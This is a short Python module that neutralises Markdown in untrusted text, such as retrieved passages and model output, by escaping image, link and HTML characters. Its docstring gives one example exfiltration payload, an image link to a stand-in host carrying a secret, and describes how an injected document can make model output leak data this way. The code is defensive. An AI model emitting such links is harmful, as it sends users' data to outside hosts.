"""Untrusted text (retrieved passages, LLM output) made safe to render as Markdown.

A hostile document can carry ``![x](http://host/leak?d=secret)``: rendered, the browser
would fetch that URL and leak whatever the model put in it. We keep Markdown's emphasis,
lists and code, but escape the characters that build images, links and raw HTML, so they
show as text and nothing is fetched.
"""

from __future__ import annotations

import re

# characters that open images/links ([ ] ( )), raw HTML (< >) or escapes (\)
_ESCAPE = re.compile(r"([\\\[\]<>])")


def neutralize_markdown(text: str) -> str:
    """Markdown that renders as the same words, with no live image, link or HTML."""
    escaped = _ESCAPE.sub(r"\\\1", text)
    # "!" before an escaped "[" can no longer start an image; escape it for good measure
    return escaped.replace("!\\[", "\\!\\[")
